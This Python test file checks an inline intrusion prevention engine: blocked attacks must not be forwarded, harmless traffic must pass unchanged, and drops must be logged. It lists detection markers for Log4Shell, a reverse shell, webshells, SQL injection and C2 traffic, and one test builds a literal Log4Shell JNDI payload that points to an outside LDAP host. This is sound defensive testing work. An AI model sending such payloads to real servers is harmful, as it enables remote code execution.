# SPDX-License-Identifier: BSD-3-Clause
"""Inline: what was blocked is not in what would have been forwarded, and all else is, byte for byte."""
import harness
from harness import tcp_payloads
from traffic import attacks, harmless, packets, protocols

# Bytes without which the attack is none; they must not come through.
MARKS = {
    "log4shell": b"jndi:ldap", "log4shell-nested": b"lower:j", "command-fetch": b"busybox", "command-reverse-shell": b"dev%2Ftcp",
    "webshell-upload": b"eval(", "webshell-upload-jsp": b"getRuntime", "webshell-chopper": b"QGluaV9zZXQ",
    "sqli-union": b"SELECT", "sqli-tautology": b"%27", "command-uri": b"/etc/hostname", "traversal-passwd": b"etc%2fpasswd",
    "shellshock": b"() {", "webshell-order": b"whoami", "c2-results": b"/submit.php", "c2-prompt": b"Microsoft", "c2-shell": b"no job control", "log4shell-ldap": b"javaCodeBase",
}
# Those that are an attack as soon as the bytes are there; of the others a request that is never whole is none.
PLAIN = ("log4shell", "log4shell-nested", "log4shell-ldap", "c2-prompt", "c2-shell")


class Inline(harness.Case):
    def test_a_blocked_attack_does_not_come_through(self):
        for name, mark in MARKS.items():
            with self.subTest(name):
                outcome = self.replay(attacks.build(name), inline=True)
                self.assertIn(mark, b"".join(tcp_payloads([f for _, f in attacks.build(name)])))
                self.assertNotIn(mark, b"".join(tcp_payloads(outcome.forwarded())))
                self.assertEqual({r["alert"]["action"] for r in outcome.records("alert")}, {"blocked"})

    def test_however_it_is_cut_the_attack_never_arrives_whole(self):
        for name in MARKS:
            for segment in (1, 5, 40, 1460):
                with self.subTest(name, segment=segment):
                    frames = [f for _, f in attacks.build(name, segment=segment)]
                    first = self.replay(attacks.build(name, segment=segment), inline=True)
                    self.assertEqual(set(first.alerts()), set(attacks.ATTACKS[name][1]))
                    record = first.records("alert")[0]
                    whole = b"".join(tcp_payloads(frames, record["src_ip"]))
                    came = b"".join(tcp_payloads(first.forwarded(), record["src_ip"]))
                    self.assertTrue(whole.startswith(came))
                    self.assertLess(len(came), len(whole))
                    if name in PLAIN:
                        again = self.replay(first.path("forwarded.pcap"))
                        self.assertEqual(dict(again.alerts()), {}, "the end host still got it")

    def test_an_alert_that_may_always_block_drops_unless_told_otherwise(self):
        frames = attacks.build("sqli-answered")
        blocked = self.replay(frames, inline=True)
        self.assertEqual(dict(blocked.alerts()), {9000001: 1}, "the answer came though the attempt was dropped")
        self.assertEqual(blocked.records("alert")[0]["alert"]["action"], "blocked")
        let = self.replay(frames, inline=True, options=["--set", "detect.raise-alerts=no"])
        self.assertEqual(dict(let.alerts()), attacks.ATTACKS["sqli-answered"][1])
        self.assertEqual(let.forwarded(), [f for _, f in frames])

    def test_drops_are_recorded_with_their_reason(self):
        outcome = self.replay(attacks.build("log4shell"), inline=True)
        drops = outcome.records("drop")
        self.assertTrue(drops)
        self.assertEqual(drops[0]["drop"]["reason"], "rules")
        dropped = len(attacks.build("log4shell")) - len(outcome.forwarded())
        self.assertGreater(dropped, 0)

    def test_an_onlooker_alerts_and_says_allowed(self):
        record = self.replay(attacks.build("log4shell")).records("alert")[0]
        self.assertEqual(record["alert"]["action"], "allowed")

    def test_harmless_traffic_is_forwarded_byte_for_byte(self):
        for name in harmless.HARMLESS:
            with self.subTest(name):
                frames = harmless.build(name)
                self.assertEqual(self.replay(frames, inline=True).forwarded(), [f for _, f in frames])

    def test_harmless_traffic_in_many_dresses_is_forwarded_byte_for_byte(self):
        dresses = {"segments": lambda: harmless.build("browsing", segment=100),
                   "vlan": lambda: packets.in_vlan(harmless.build("browsing"), 4, 5),
                   "gre": lambda: packets.in_gre(harmless.build("browsing")),
                   "vxlan": lambda: packets.in_vxlan(harmless.build("browsing"))}
        for name, dress in dresses.items():
            with self.subTest(name):
                frames = dress()
                self.assertEqual(self.replay(frames, inline=True).forwarded(), [f for _, f in frames])

    def test_fragments_are_forwarded_when_the_datagram_is_whole(self):
        frames = packets.fragmented(harmless.build("dns"), 40)
        self.assertEqual(sorted(self.replay(frames, inline=True).forwarded()), sorted(f for _, f in frames))

    def test_of_two_sessions_only_the_attacking_one_is_cut(self):
        capture = packets.Capture()
        good = capture.session(packets.DESK, packets.WEB_SERVER, 80, sport=30001)
        bad = capture.session(packets.OUTSIDE, packets.WEB_SERVER, 80, sport=30002)
        bad.client(protocols.request("GET", "/", agent="${jndi:ldap://198.51.100.77/a}"))
        good.client(protocols.request("GET", "/good")).server(protocols.response(b"yes"))
        bad.server(protocols.response(b"no")).close()
        good.close()
        forwarded = self.replay(capture.frames, inline=True).forwarded()
        port = (30001).to_bytes(2, "big")
        of_good = [f for _, f in capture.frames if port in (f[34:36], f[36:38])]
        self.assertEqual([f for f in forwarded if port in (f[34:36], f[36:38])], of_good)
        self.assertNotIn(b"jndi", b"".join(forwarded))

    def test_a_pass_rule_comes_before_a_drop(self):
        rules = ('drop tcp any any -> any any (msg:"d"; content:"jndi"; sid:1;)\n'
                 'pass ip 203.0.113.66 any -> any any (msg:"p"; sid:2;)\n')
        frames = attacks.build("log4shell")
        outcome = self.replay(frames, rules=rules, inline=True)
        self.assertEqual(outcome.forwarded(), [f for _, f in frames])
        self.assertEqual(dict(outcome.alerts()), {})

    def test_a_segment_sent_twice_with_other_bytes_does_not_change_what_was_inspected(self):
        capture = packets.Capture()
        session = capture.session(packets.OUTSIDE, packets.WEB_SERVER, 80, sport=30003)
        text = protocols.request("GET", "/first")
        other = text.replace(b"/first", b"/other")
        session.emit(0, packets.ACK | packets.PSH, text[:40])
        session.emit(0, packets.ACK | packets.PSH, other[:40])
        session.seq[0] += 40
        session.emit(1, packets.ACK)
        session.client(text[40:]).server(protocols.response(b"yes")).close()
        joined = b"".join(tcp_payloads(self.replay(capture.frames, rules="", inline=True).forwarded()))
        self.assertIn(b"/first", joined)
        self.assertNotIn(b"/other", joined)
